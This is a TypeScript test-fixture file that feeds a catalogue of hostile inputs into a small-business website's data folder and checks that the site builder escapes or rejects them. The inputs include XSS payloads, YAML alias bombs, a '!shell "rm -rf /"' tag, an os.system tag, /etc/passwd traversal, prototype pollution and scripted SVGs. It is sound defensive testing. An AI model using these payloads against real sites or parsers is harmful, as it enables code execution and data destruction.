import { readFile, writeFile, mkdir, symlink } from 'node:fs/promises';
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';

/**
 * The hostile-content corpus: inputs a careless or malicious editor (or a broken editor, or a bad merge) could put
 * into data/. Each case either
 *  - `builds`: validates cleanly and builds, and its text must appear as text (never as markup or script) in the
 *    output. These cases touch different fields, so they are all applied to ONE copy of data/ that is built once
 *    (tests/unit/hostile.test.ts checks the HTML statically, tests/e2e/hostile.spec.ts in a browser); or
 *  - `fails`: is refused by `validate` with a message naming the file, a line and column >= 1 and the rule id,
 *    exit code 1, no stack trace. Cases with `build: true` also run `build`, which must leave --out untouched.
 *
 * Payloads mark themselves with `__pwned` / alert(): if any of them ever ran in a browser, hostile.spec.ts sees it.
 */

export type Apply = (dataDir: string) => Promise<void>;

export interface BuildsCase {
  id: string;
  what: string;
  expect: 'builds';
  apply: Apply;
  /** Text that must be shown, as text, on at least one page (whitespace-normalised). */
  visible: string[];
  /** Text that must be in some page's <title>. */
  title?: string;
  /** Text that must survive in some page's JSON-LD (parsed). */
  jsonLd?: string;
}

export interface FailsCase {
  id: string;
  what: string;
  expect: 'fails';
  apply: Apply;
  /** The file the message must name, relative to data/. */
  file: string;
  rule: string;
  /** The exact line, when the case pins one. */
  line?: number;
  /** Words the message must contain. */
  mentions?: string;
  /** Also run `build` and check that the output folder is left as it was. */
  build?: boolean;
  /** The problem is the whole file (a file that must not be there): line and column 0, as for every such message. */
  wholeFile?: boolean;
}

export type HostileCase = BuildsCase | FailsCase;

// ---------------------------------------------------------------------------------------------------------------
// Editing helpers. Every edit checks that what it replaces is there, so a change in data/ fails loudly here
// instead of silently testing nothing.

/** A YAML double-quoted scalar holding exactly `text` (JSON strings are valid YAML double-quoted scalars). */
export const q = (text: string): string => JSON.stringify(text);

async function replaceIn(dataDir: string, rel: string, find: string, replacement: string): Promise<void> {
  const file = path.join(dataDir, rel);
  const text = await readFile(file, 'utf8');
  const at = text.indexOf(find);
  if (at < 0) throw new Error(`hostile case: "${find.slice(0, 60)}" not found in ${rel}`);
  await writeFile(file, text.slice(0, at) + replacement + text.slice(at + find.length));
}

const sub = (rel: string, find: string, replacement: string): Apply => (dir) => replaceIn(dir, rel, find, replacement);
/** Replaces the whole line that contains `find`, keeping its indentation. */
const setLine = (rel: string, find: string, replacement: string): Apply => async (dir) => {
  const file = path.join(dir, rel);
  const lines = (await readFile(file, 'utf8')).split('\n');
  const n = lines.findIndex((l) => l.includes(find));
  if (n < 0) throw new Error(`hostile case: "${find.slice(0, 60)}" not found in ${rel}`);
  lines[n] = `${/^\s*/.exec(lines[n]!)![0]}${replacement}`;
  await writeFile(file, lines.join('\n'));
};
const put = (rel: string, content: string | Uint8Array): Apply => async (dir) => {
  await mkdir(path.dirname(path.join(dir, rel)), { recursive: true });
  await writeFile(path.join(dir, rel), content);
};
const all = (...steps: Apply[]): Apply => async (dir) => {
  for (const step of steps) await step(dir);
};

// ---------------------------------------------------------------------------------------------------------------
// Payloads.

/** Classic script injection; `n` tells which case ran if one ever does. */
const script = (n: number) => `<script>window.__pwned=${n}</script>`;
const closeScript = (n: number) => `</script><script>window.__pwned=${n}</script>`;
const comment = (n: number) => `<!-- <script>alert(${n})</script> -->`;
const onerror = (n: number) => `<img src=x onerror="window.__pwned=${n}">`;
const jsLink = (n: number) => `<a href="javascript:window.__pwned=${n}">click</a>`;

const RLO = '\u202E';
const PDF = '\u202C';
const POST = 'posts/spring-maintenance.md';
const PAGE = 'pages/privacy.md';

/** A valid post with the given front matter lines and body. */
const post = (frontMatter: string[], body: string): string => ['---', ...frontMatter, '---', body, ''].join('\n');
const validFrontMatter = (title: string): string[] => [
  `title: ${q(title)}`,
  'excerpt: "An excerpt."',
  'image: /images/blog/spring-maintenance.svg',
  'author: Marcus Reyes',
  'date: 2026-03-14',
  'category: Maintenance',
  'readTime: 5 min read',
];

/** 10,000 levels of nesting. */
const DEPTH = 10_000;

const root = path.resolve(import.meta.dirname, '../..');

/**
 * Every id the site's own markup writes as a literal (`id="page-data"`, `id="main"`, ...), read from the components
 * under site/, plus one made from a template (`package-<id>`): a post has a heading for each, and no page may then
 * hold an id twice or fail to hydrate.
 */
export function siteMarkupIds(): string[] {
  const ids = new Set<string>(['package-basic']);
  const walk = (dir: string) => {
    for (const entry of readdirSync(dir, { withFileTypes: true })) {
      const abs = path.join(dir, entry.name);
      if (entry.isDirectory()) walk(abs);
      else if (entry.name.endsWith('.tsx')) for (const m of readFileSync(abs, 'utf8').matchAll(/\bid="([a-z0-9-]+)"/g)) ids.add(m[1]!);
    }
  };
  walk(path.join(root, 'site'));
  return [...ids].sort();
}

/** An SVG with `inner` inside, otherwise a plain drawing. */
const svg = (inner: string, head = '') => `${head}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">\n  <rect width="10" height="10"/>\n  ${inner}\n</svg>\n`;
/** A Markdown body line put into the spring post before its first paragraph. */
const inPost = (markdown: string): Apply => sub(POST, 'Spring is the best time of year', `${markdown}\n\nSpring is the best time of year`);

export const hostileCases: HostileCase[] = [
  // ------------------------------------------------------------------ builds: hostile text in every kind of field
  {
    id: 'service-name-script', what: '<script> in a service name', expect: 'builds',
    apply: sub('services/plumbing.yaml', 'name: Leaky Faucet Repair', `name: ${q(`HX01 Leaky ${script(1)} Faucet`)}`),
    visible: [`HX01 Leaky ${script(1)} Faucet`],
  },
  {
    id: 'service-description-close-script', what: '</script> breakout in a service description', expect: 'builds',
    apply: setLine('services/plumbing.yaml', 'description: We stop drips and leaks', `description: ${q(`HX02 ${closeScript(2)}`)}`),
    visible: [`HX02 ${closeScript(2)}`],
  },
  {
    id: 'service-feature-comment', what: '<!-- in a service feature', expect: 'builds',
    apply: sub('services/plumbing.yaml', '- Diagnose drips at the cartridge, washer or O-ring', `- ${q(`HX03 ${comment(3)}`)}`),
    visible: [`HX03 ${comment(3)}`],
  },
  {
    id: 'category-hero-onerror', what: 'event-handler attribute in category page copy', expect: 'builds',
    apply: sub('categories/plumbing.yaml', 'headline: "Plumbing Fixes Before Small Leaks Become Big Bills"', `headline: ${q(`HX04 ${onerror(4)}`)}`),
    visible: [`HX04 ${onerror(4)}`],
  },
  {
    id: 'category-card-javascript-link', what: 'javascript: link markup in a category card', expect: 'builds',
    apply: sub('categories/plumbing.yaml', 'description: "Dripping faucets repaired, new faucets installed and leaking sink drains and supply lines fixed."', `description: ${q(`HX05 ${jsLink(5)}`)}`),
    visible: [`HX05 ${jsLink(5)}`],
  },
  {
    id: 'faq-answer-breakout', what: '</script> and <!-- in an FAQ answer (also in FAQPage JSON-LD)', expect: 'builds',
    apply: sub('faq.yaml', 'That way we can confirm the scope with you', `HX06 </script><!--<script>window.__pwned=6</script>--> That way we can confirm the scope with you`),
    visible: ['HX06 </script><!--<script>window.__pwned=6</script>--> That way'],
    jsonLd: 'HX06 </script><!--<script>window.__pwned=6</script>--> That way',
  },
  {
    id: 'site-tagline-svg', what: 'markup in the site tagline (every page, meta tags, JSON-LD)', expect: 'builds',
    apply: sub('site.yaml', 'tagline: "Skilled, honest help for every room, yard and to-do list."', `tagline: ${q(`HX07 <svg onload="window.__pwned=7"></svg> </script>`)}`),
    visible: ['HX07 <svg onload="window.__pwned=7"></svg> </script>'],
  },
  {
    id: 'package-description-iframe', what: 'iframe with javascript: src in a package description', expect: 'builds',
    apply: setLine('packages.yaml', `description: "Four hours of a skilled handyman's time`, `description: ${q('HX08 <iframe src="javascript:window.__pwned=8"></iframe>')}`),
    visible: ['HX08 <iframe src="javascript:window.__pwned=8"></iframe>'],
  },
  {
    id: 'package-feature-attribute-breakout', what: 'attribute breakout quotes in a package feature', expect: 'builds',
    apply: sub('packages.yaml', '- "4 hours of on-site handyman labor"', `- ${q(`HX09 "'><script>alert(9)</script>`)}`),
    visible: [`HX09 "'><script>alert(9)</script>`],
  },
  {
    id: 'team-bio-body-onload', what: '<body onload> in a team bio', expect: 'builds',
    apply: setLine('team.yaml', 'bio: "Marcus started framing houses', `bio: ${q('HX10 <body onload=alert(10)>')}`),
    visible: ['HX10 <body onload=alert(10)>'],
  },
  {
    id: 'testimonial-style', what: '<style> and <script> in a testimonial', expect: 'builds',
    apply: setLine('testimonials.yaml', 'text: "Our water heater started leaking on a Sunday night.', `text: ${q(`HX11 <style>body::after</style>${script(11)}`)}`),
    visible: [`HX11 <style>body::after</style>${script(11)}`],
  },
  {
    id: 'navigation-label', what: 'markup in a navigation label', expect: 'builds',
    apply: sub('navigation.yaml', '  - label: Careers\n', `  - label: ${q('HX12 <b onmouseover=alert(12)>Careers</b>')}\n`),
    visible: ['HX12 <b onmouseover=alert(12)>Careers</b>'],
  },
  {
    id: 'contact-faq-question', what: '<script> in a contact page FAQ question', expect: 'builds',
    apply: sub('contact.yaml', 'question: "How quickly will you respond to my message?"', `question: ${q(`HX13 ${script(13)}?`)}`),
    visible: [`HX13 ${script(13)}?`],
  },
  {
    id: 'careers-benefit', what: 'onerror markup in a careers benefit title', expect: 'builds',
    apply: sub('careers.yaml', 'title: "Skill Development"', `title: ${q(`HX14 ${onerror(14)}`)}`),
    visible: [`HX14 ${onerror(14)}`],
  },
  {
    id: 'job-title', what: 'closing </script> in a job title', expect: 'builds',
    apply: sub('jobs.yaml', 'title: Senior Handyman', `title: ${q(`HX15 ${closeScript(15)}`)}`),
    visible: [`HX15 ${closeScript(15)}`],
  },
  {
    id: 'seo-title-script', what: 'script markup in an SEO title (<title>, og:title, JSON-LD)', expect: 'builds',
    apply: sub('categories/plumbing.yaml', 'title: "Plumbing Repairs & Installation | {shortName}"', `title: ${q('HX16 </title><script>alert(16)</script>')}`),
    visible: [],
    title: 'HX16 </title><script>alert(16)</script>',
  },
  {
    id: 'post-front-matter-title', what: '<script> in Markdown front matter (post title)', expect: 'builds',
    apply: sub(POST, 'title: "Your Spring Home Maintenance Checklist: Front Range and Pennsylvania Edition"', `title: ${q(`HX17 ${script(17)}`)}`),
    visible: [`HX17 ${script(17)}`],
  },
  {
    id: 'post-front-matter-excerpt', what: '</script> and <!-- in Markdown front matter (excerpt)', expect: 'builds',
    apply: setLine(POST, 'excerpt: "Winter is hard on a house', `excerpt: ${q(`HX18 </script><!-- ${script(18)}`)}`),
    visible: [`HX18 </script><!-- ${script(18)}`],
  },
  {
    id: 'markdown-raw-html', what: 'raw HTML (<script>, onerror, <iframe>, <form>) in a Markdown body', expect: 'builds',
    apply: sub(POST, 'Spring is the best time of year', [
      'HX19 raw html follows.', '',
      script(19), '',
      onerror(19), '',
      '<iframe src="javascript:window.__pwned=19"></iframe>', '',
      '<form action="javascript:window.__pwned=19"><button>go</button></form>', '',
      '<div onclick="window.__pwned=19">HX19 div text</div>', '',
      'Spring is the best time of year',
    ].join('\n')),
    visible: ['HX19 raw html follows.'],
  },
  {
    id: 'markdown-link-text-kept', what: 'link text around an https link in Markdown', expect: 'builds',
    apply: sub(POST, '## Start at the Top: Roof, Gutters and Drainage', '[HX20 ok](https://example.com/) and [HX20 site](/contact)\n\n## Start at the Top: Roof, Gutters and Drainage'),
    visible: ['HX20 ok and HX20 site'],
  },
  {
    id: 'markdown-code-breakout', what: '</script> and <!-- as Markdown code and text', expect: 'builds',
    apply: sub(POST, 'Water is the most common cause of expensive home repairs', `HX21 \`</script><script>alert(21)</script>\` and \\<!-- not a comment --> text.\n\nWater is the most common cause of expensive home repairs`),
    visible: ['HX21 </script><script>alert(21)</script> and'],
  },
  {
    id: 'legal-page-markdown', what: 'raw HTML and a javascript: link in a legal page body and front matter', expect: 'builds',
    apply: all(
      sub(PAGE, 'title: Privacy Policy', `title: ${q(`HX22 Privacy ${script(22)}`)}`),
      sub(PAGE, '## The Short Version', `<script>window.__pwned=22</script>\n\nHX22 text after the script.\n\n## The Short Version`),
    ),
    visible: [`HX22 Privacy ${script(22)}`, 'HX22 text after the script.'],
  },
  {
    id: 'emoji', what: 'emoji, combining marks and ZWJ sequences', expect: 'builds',
    apply: sub('services/plumbing.yaml', 'name: Kitchen Faucet Installation', `name: ${q('HX23 🔧🚿 Kitchen Fau\u0301cet 👨‍👩‍👧 ✓')}`),
    visible: ['HX23 🔧🚿 Kitchen Fau\u0301cet 👨‍👩‍👧 ✓'],
  },
  {
    id: 'right-to-left', what: 'Arabic, Hebrew and a right-to-left override (U+202E)', expect: 'builds',
    apply: sub('testimonials.yaml', 'name: Karen M.', `name: ${q(`HX24 مرحبا שלום ${RLO}gpj.exe${PDF}`)}`),
    visible: [`HX24 مرحبا שלום ${RLO}gpj.exe${PDF}`],
  },
  {
    id: 'line-separators', what: 'U+2028/U+2029 and zero-width characters (break naive inline-script JSON)', expect: 'builds',
    apply: sub('services/plumbing.yaml', 'name: Bathroom Faucet Replacement', `name: ${q('HX25 Bath\u2028room\u2029 Fau\u200Bcet\uFEFF')}`),
    visible: ['HX25 Bath'],
  },
  {
    id: 'four-megabyte-file', what: 'a 4 MB YAML file (content plus a comment block)', expect: 'builds',
    apply: async (dir) => {
      const file = path.join(dir, 'process.yaml');
      const text = await readFile(file, 'utf8');
      const pad = `# ${'padding '.repeat(124)}\n`;
      await writeFile(file, text + pad.repeat(Math.ceil((4 * 1024 * 1024) / pad.length)));
    },
    visible: [],
  },
  {
    id: 'anchors-aliases', what: 'YAML anchors and aliases used within the limit', expect: 'builds',
    apply: all(
      sub('packages.yaml', '- "Hanging shelves, mirrors, curtain rods and artwork"', `- &hx27 ${q('HX27 anchored <script>alert(27)</script>')}`),
      sub('packages.yaml', '- "Caulking around tubs, sinks and windows"', '- *hx27'),
    ),
    visible: ['HX27 anchored <script>alert(27)</script>'],
  },
  {
    id: 'front-matter-dashes-in-strings', what: 'front matter with --- inside a quoted string and an indented block scalar', expect: 'builds',
    apply: put('posts/dashes-in-front-matter.md', post([
      'title: "HX28 Before --- After: --- in a title"',
      'excerpt: |',
      '  HX28 first line',
      '  ---',
      '  after the dashes',
      'image: /images/blog/spring-maintenance.svg',
      'author: Marcus Reyes',
      'date: 2026-03-15',
      'category: Maintenance',
      'readTime: 5 min read',
    ], 'HX28 body text --- with dashes.\n\n--- \n\nAfter a thematic break.')),
    visible: ['HX28 Before --- After: --- in a title', 'HX28 body text --- with dashes.'],
  },
  {
    id: 'crlf-and-bom', what: 'Windows line endings and a UTF-8 byte order mark', expect: 'builds',
    apply: async (dir) => {
      const file = path.join(dir, 'about.yaml');
      const text = await readFile(file, 'utf8');
      await writeFile(file, `\uFEFF${text.replace(/\r?\n/g, '\r\n')}`);
    },
    visible: [],
  },
  {
    id: 'unknown-yaml-tag-js-function', what: 'a quoted !!js/function-looking value (text, not a tag)', expect: 'builds',
    apply: setLine('services/plumbing.yaml', 'description: Your new pull-down', `description: ${q('HX30 !!js/function "function(){window.__pwned=30}" javascript:alert(30)')}`),
    visible: ['HX30 !!js/function "function(){window.__pwned=30}" javascript:alert(30)'],
  },
  {
    id: 'html-entities', what: 'pre-escaped HTML entities (must not be decoded into markup)', expect: 'builds',
    apply: sub('jobs.yaml', '- "5+ years of professional handyman or construction experience"', `- ${q('HX31 &lt;script&gt;alert(31)&lt;/script&gt; &#60;img src=x onerror=alert(31)&#62;')}`),
    visible: ['HX31 &lt;script&gt;alert(31)&lt;/script&gt; &#60;img src=x onerror=alert(31)&#62;'],
  },

  {
    id: 'headings-named-like-site-ids', what: 'a post whose headings are every id the site\'s own markup uses (## Page Data, ## Icon Data, ## Root, ## Main, ...)', expect: 'builds',
    apply: async (dir) => put('posts/hostile-headings.md', post(validFrontMatter('HX40 headings'), [
      'HX40 headings follow. [HX40 jump to page data](#page-data)', '',
      ...siteMarkupIds().flatMap((id) => [`## ${id.replace(/-/g, ' ')}`, '', `Text under ${id}.`, '']),
    ].join('\n')))(dir),
    visible: ['HX40 headings follow. HX40 jump to page data'],
  },
  {
    id: 'dotfile-in-images', what: 'a hidden script file in data/images (never published)', expect: 'builds',
    apply: put('images/.hidden-payload.js', 'window.__pwned = 41;\n'),
    visible: [],
  },
  // ------------------------------------------------------------------ fails: refused with file, line, column, rule
  {
    id: 'billion-laughs', what: 'a billion-laughs alias bomb', expect: 'fails', build: true,
    apply: put('team.yaml', [
      'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
      ...'bcdefghi'.split('').map((c, i) => `${c}: &${c} [${Array.from({ length: 9 }, () => `*${'abcdefghi'[i]}`).join(',')}]`),
      '',
    ].join('\n')),
    file: 'team.yaml', rule: 'yaml/alias', mentions: 'aliases',
  },
  {
    id: 'symlink-loop', what: 'a symlink loop in data/images and a self-referencing symlink in data/posts (each refused, never followed)', expect: 'fails', build: true,
    apply: async (dir) => {
      await symlink('..', path.join(dir, 'images/loop'));
      await symlink('self-loop.md', path.join(dir, 'posts/self-loop.md'));
    },
    file: 'images/loop', rule: 'file/link', wholeFile: true, mentions: 'symbolic link',
  },
  {
    id: 'alias-without-anchor', what: 'an alias whose anchor does not exist', expect: 'fails',
    apply: sub('packages.yaml', '- "Caulking around tubs, sinks and windows"', '- *nowhere'),
    file: 'packages.yaml', rule: 'yaml/alias',
  },
  {
    id: 'merge-key', what: 'a YAML merge key (<<) in a service', expect: 'fails',
    apply: sub('services/plumbing.yaml', '  - id: plumbing-02\n', '  - id: plumbing-02\n    <<: { popular: false }\n'),
    file: 'services/plumbing.yaml', rule: 'schema/unknown-field', line: 33, mentions: 'merge key',
  },
  {
    id: 'tag-js-function', what: 'a !!js/function tag', expect: 'fails', build: true,
    apply: sub('services/plumbing.yaml', 'name: Leaky Faucet Repair', 'name: !!js/function "function () { window.__pwned = 1 }"'),
    file: 'services/plumbing.yaml', rule: 'yaml/tag', line: 20, mentions: '!!js/function',
  },
  {
    id: 'tag-python-object', what: 'a !!python/object tag', expect: 'fails',
    apply: sub('team.yaml', 'name: Marcus Reyes', 'name: !!python/object/apply:os.system ["echo pwned"]'),
    file: 'team.yaml', rule: 'yaml/tag', mentions: '!!python/object/apply:os.system',
  },
  {
    id: 'tag-local', what: 'a local !tag', expect: 'fails',
    apply: sub('faq.yaml', 'question: "Are you licensed and insured?"', 'question: !shell "rm -rf /"'),
    file: 'faq.yaml', rule: 'yaml/tag', mentions: '!shell',
  },
  {
    id: 'non-utf8-bytes', what: 'Latin-1 bytes in a UTF-8 file', expect: 'fails', build: true,
    apply: async (dir) => {
      const file = path.join(dir, 'services/plumbing.yaml');
      const text = await readFile(file, 'utf8');
      const at = text.indexOf('Leaky Faucet Repair');
      await writeFile(file, Buffer.concat([Buffer.from(text.slice(0, at)), Buffer.from([0x43, 0x61, 0x66, 0xe9, 0x20]), Buffer.from(text.slice(at))]));
    },
    file: 'services/plumbing.yaml', rule: 'file/encoding', line: 20,
  },
  {
    id: 'utf16-bom', what: 'a UTF-16 (little-endian, with BOM) file', expect: 'fails',
    apply: async (dir) => {
      const file = path.join(dir, 'faq.yaml');
      const text = await readFile(file, 'utf8');
      await writeFile(file, Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]));
    },
    file: 'faq.yaml', rule: 'file/encoding', line: 1, mentions: 'UTF-16',
  },
  {
    id: 'utf16be-bom', what: 'a UTF-16 (big-endian, with BOM) Markdown file', expect: 'fails',
    apply: async (dir) => {
      const file = path.join(dir, PAGE);
      const le = Buffer.from(await readFile(file, 'utf8'), 'utf16le');
      const be = Buffer.alloc(le.length);
      for (let i = 0; i + 1 < le.length; i += 2) { be[i] = le[i + 1]!; be[i + 1] = le[i]!; }
      await writeFile(file, Buffer.concat([Buffer.from([0xfe, 0xff]), be]));
    },
    file: PAGE, rule: 'file/encoding', line: 1, mentions: 'UTF-16',
  },
  {
    id: 'overlong-utf8', what: 'an overlong UTF-8 encoding of "/" (C0 AF)', expect: 'fails',
    apply: async (dir) => {
      const file = path.join(dir, 'blog.yaml');
      await writeFile(file, Buffer.concat([await readFile(file), Buffer.from('# \xc0\xaf\n', 'latin1')]));
    },
    file: 'blog.yaml', rule: 'file/encoding',
  },
  {
    id: 'nul-byte', what: 'a NUL byte inside a value', expect: 'fails', build: true,
    apply: sub('testimonials.yaml', 'name: Karen M.', 'name: Karen\u0000 M.'),
    file: 'testimonials.yaml', rule: 'file/encoding', line: 3,
  },
  {
    id: 'nul-in-markdown-body', what: 'a NUL byte in a Markdown body', expect: 'fails',
    apply: sub(POST, 'Spring is the best time of year', 'Spring\u0000 is the best time of year'),
    file: POST, rule: 'file/encoding', line: 10,
  },
  {
    id: 'empty-yaml', what: 'an empty YAML file', expect: 'fails',
    apply: put('jobs.yaml', ''),
    file: 'jobs.yaml', rule: 'schema/empty-file', line: 1,
  },
  {
    id: 'comment-only-yaml', what: 'a YAML file holding only a comment', expect: 'fails',
    apply: put('contact.yaml', '# yaml-language-server: $schema=../schema/contact.schema.json\n'),
    file: 'contact.yaml', rule: 'schema/empty-file',
  },
  {
    id: 'empty-markdown', what: 'an empty Markdown file', expect: 'fails',
    apply: put('posts/empty.md', ''),
    file: 'posts/empty.md', rule: 'markdown/front-matter', line: 1,
  },
  {
    id: 'png-bytes', what: 'a PNG image saved as YAML', expect: 'fails', build: true,
    apply: put('home.yaml', Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8cfc0f01f0005000201a2d8b1d90000000049454e44ae426082', 'hex')),
    file: 'home.yaml', rule: 'file/encoding', line: 1,
  },
  {
    id: 'json-array', what: 'a JSON array instead of the expected fields', expect: 'fails',
    apply: put('testimonials.yaml', '[1, 2, 3]\n'),
    file: 'testimonials.yaml', rule: 'schema/type', line: 1,
  },
  {
    id: 'plain-prose', what: 'plain prose instead of YAML fields', expect: 'fails',
    apply: put('careers.yaml', 'We are hiring! Send your resume to jobs at our office and we will be in touch soon.\n'),
    file: 'careers.yaml', rule: 'schema/type', line: 1,
  },
  {
    id: 'prose-with-colons', what: 'prose with colons on several lines', expect: 'fails',
    apply: put('process.yaml', 'Our process is simple.\nStep one: call us.\nStep two: we come out.\n'),
    file: 'process.yaml', rule: 'yaml/syntax',
  },
  {
    id: 'deep-flow-sequence', what: '10,000 nested flow lists ([[[...]]])', expect: 'fails', build: true,
    apply: put('coverage.yaml', `cities: ${'['.repeat(DEPTH)}${']'.repeat(DEPTH)}\n`),
    file: 'coverage.yaml', rule: 'yaml/too-deep', line: 1, mentions: 'nested too deeply',
  },
  {
    id: 'deep-flow-mapping', what: '10,000 nested flow maps ({a: {a: ...}})', expect: 'fails',
    apply: put('service-areas.yaml', `areas: ${'{a: '.repeat(DEPTH)}1${'}'.repeat(DEPTH)}\n`),
    file: 'service-areas.yaml', rule: 'yaml/too-deep', line: 1,
  },
  {
    id: 'deep-block-sequence', what: '10,000 nested block lists (- - - ...)', expect: 'fails',
    apply: put('blog.yaml', `categories:\n  ${'- '.repeat(DEPTH)}x\n`),
    file: 'blog.yaml', rule: 'yaml/too-deep', line: 2,
  },
  {
    id: 'deep-front-matter', what: '10,000 nested lists in Markdown front matter', expect: 'fails',
    apply: put('posts/deep.md', post([...validFrontMatter('Deep'), `tags: ${'['.repeat(DEPTH)}${']'.repeat(DEPTH)}`], 'Body.')),
    file: 'posts/deep.md', rule: 'yaml/too-deep', line: 9,
  },
  {
    id: 'text-as-price', what: 'free text where a price value belongs', expect: 'fails',
    apply: sub('services/plumbing.yaml', 'price: { from: 95 }', 'price: "From $95"'),
    file: 'services/plumbing.yaml', rule: 'value/price', line: 30,
  },
  {
    id: 'number-as-tagline', what: 'a number where text belongs (site tagline)', expect: 'fails',
    apply: sub('site.yaml', 'tagline: "Skilled, honest help for every room, yard and to-do list."', 'tagline: 2026'),
    file: 'site.yaml', rule: 'schema/type', line: 4,
  },
  {
    id: 'list-as-bio', what: 'a list where text belongs (team bio)', expect: 'fails',
    apply: setLine('team.yaml', 'bio: "Marcus started framing houses', 'bio: [one, two]'),
    file: 'team.yaml', rule: 'schema/type', line: 12,
  },
  {
    id: 'markdown-no-front-matter', what: 'a Markdown post with no front matter', expect: 'fails',
    apply: put('posts/no-front-matter.md', '# Just a heading\n\n<script>alert(1)</script>\n'),
    file: 'posts/no-front-matter.md', rule: 'markdown/front-matter', line: 1,
  },
  {
    id: 'front-matter-unclosed', what: 'front matter that never closes', expect: 'fails',
    apply: put('posts/unclosed.md', ['---', ...validFrontMatter('Unclosed'), '', 'Body without the closing line.', ''].join('\n')),
    file: 'posts/unclosed.md', rule: 'markdown/front-matter', line: 1,
  },
  {
    id: 'front-matter-dashes-split-string', what: 'a line "---" inside a quoted front matter string (ends the front matter early)', expect: 'fails',
    apply: put('posts/split-string.md', ['---', 'title: "Before', '---', 'after"', ...validFrontMatter('x').slice(1), '---', 'Body.', ''].join('\n')),
    file: 'posts/split-string.md', rule: 'yaml/syntax', line: 2,
  },
  {
    id: 'javascript-url-navigation', what: 'a javascript: URL as a navigation link', expect: 'fails', build: true,
    apply: sub('navigation.yaml', '- { label: Contact, href: /contact }', '- { label: Contact, href: "javascript:window.__pwned=1" }'),
    file: 'navigation.yaml', rule: 'schema/pattern',
  },
  {
    id: 'javascript-url-site-link', what: 'a javascript: URL as the booking link', expect: 'fails',
    apply: sub('site.yaml', 'booking: https://book.ridgelinehandyman.example/schedule', 'booking: "javascript:alert(document.cookie)"'),
    file: 'site.yaml', rule: 'schema/pattern',
  },
  {
    id: 'data-url-image', what: 'a data:text/html URL as an image path', expect: 'fails',
    apply: sub('services/plumbing.yaml', 'image: /images/categories/plumbing.svg', 'image: "data:text/html,<script>alert(1)</script>"'),
    file: 'services/plumbing.yaml', rule: 'schema/pattern', line: 23,
  },
  {
    id: 'image-path-traversal', what: 'an image path that climbs out of data/images', expect: 'fails',
    apply: sub('team.yaml', 'image: /images/team/marcus-reyes.svg', 'image: /images/../../../etc/passwd.svg'),
    file: 'team.yaml', rule: 'ref/image',
  },
  {
    id: 'proto-key', what: 'a __proto__ key (prototype pollution attempt)', expect: 'fails',
    apply: sub('site.yaml', 'shortName: Ridgeline', 'shortName: Ridgeline\n__proto__: { polluted: true }'),
    file: 'site.yaml', rule: 'schema/unknown-field',
  },
  {
    id: 'script-in-id', what: 'markup in a service id', expect: 'fails',
    apply: sub('services/plumbing.yaml', 'id: plumbing-01', `id: ${q('<script>alert(1)</script>')}`),
    file: 'services/plumbing.yaml', rule: 'schema/pattern', line: 19,
  },
  {
    id: 'placeholder-injection', what: 'a template-injection style placeholder', expect: 'fails',
    apply: sub('faq.yaml', 'question: "Are you licensed and insured?"', 'question: "{constructor.constructor} {__proto__.polluted}?"'),
    file: 'faq.yaml', rule: 'ref/placeholder',
  },
  {
    id: 'duplicate-key', what: 'the same key twice', expect: 'fails',
    apply: sub('site.yaml', 'shortName: Ridgeline', 'shortName: Ridgeline\nshortName: "<script>alert(1)</script>"'),
    file: 'site.yaml', rule: 'yaml/duplicate-key', line: 4,
  },
  {
    id: 'multiple-documents', what: 'a second YAML document smuggled after ---', expect: 'fails',
    apply: async (dir) => {
      const file = path.join(dir, 'home.yaml');
      await writeFile(file, `${await readFile(file, 'utf8')}---\nseo: { title: "<script>alert(1)</script>" }\n`);
    },
    file: 'home.yaml', rule: 'yaml/multiple-documents',
  },
  {
    id: 'tab-indent', what: 'a tab used for indentation', expect: 'fails',
    apply: sub('packages.yaml', '    name: Basic Handyman Package', '\tname: Basic Handyman Package'),
    file: 'packages.yaml', rule: 'yaml/tab-indent', line: 4,
  },
  {
    id: 'unclosed-quote', what: 'a quoted string that never closes', expect: 'fails',
    apply: sub('jobs.yaml', 'title: Senior Handyman', 'title: "Senior Handyman <script>'),
    file: 'jobs.yaml', rule: 'yaml/syntax', line: 4,
  },
  {
    id: 'huge-key', what: 'a 1 MB field name', expect: 'fails',
    apply: sub('about.yaml', 'seo:', `${'k'.repeat(1_048_576)}: 1\nseo:`),
    file: 'about.yaml', rule: 'yaml/syntax', line: 2,
  },
  {
    id: 'stray-binary-in-markdown', what: 'binary bytes appended to a legal page', expect: 'fails',
    apply: async (dir) => {
      const file = path.join(dir, 'pages/terms.md');
      await writeFile(file, Buffer.concat([await readFile(file), Buffer.from([0x00, 0xff, 0xfe, 0x00, 0x89, 0x50])]));
    },
    file: 'pages/terms.md', rule: 'file/encoding',
  },

  // ------------------------------------------------------------------ fails: files in data/images
  {
    id: 'svg-script', what: 'an SVG with a <script> element', expect: 'fails', build: true,
    apply: put('images/hostile/script.svg', svg('<script>window.__pwned = 50</script>')),
    file: 'images/hostile/script.svg', rule: 'image/svg-active', line: 3, mentions: '<script>',
  },
  {
    id: 'svg-namespaced-script', what: 'an SVG with a namespace-prefixed <svg:script>', expect: 'fails',
    apply: put('images/hostile/ns-script.svg', '<svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:script>alert(51)</svg:script></svg:svg>\n'),
    file: 'images/hostile/ns-script.svg', rule: 'image/svg-active', line: 1, mentions: '<svg:script>',
  },
  {
    id: 'svg-event-handler', what: 'an SVG with an onload handler', expect: 'fails',
    apply: put('images/hostile/onload.svg', svg('<circle r="5" onload="window.__pwned = 52"/>')),
    file: 'images/hostile/onload.svg', rule: 'image/svg-active', line: 3, mentions: 'onload',
  },
  {
    id: 'svg-foreign-object', what: 'an SVG with a foreignObject holding HTML', expect: 'fails',
    apply: put('images/hostile/foreign.svg', svg('<foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"></iframe></foreignObject>')),
    file: 'images/hostile/foreign.svg', rule: 'image/svg-active', line: 3, mentions: 'foreignObject',
  },
  {
    id: 'svg-javascript-link', what: 'an SVG link to javascript:, with spaces in the scheme', expect: 'fails',
    apply: put('images/hostile/js-link.svg', svg('<a xlink:href=" java\tscript:alert(53)"><text>click</text></a>')),
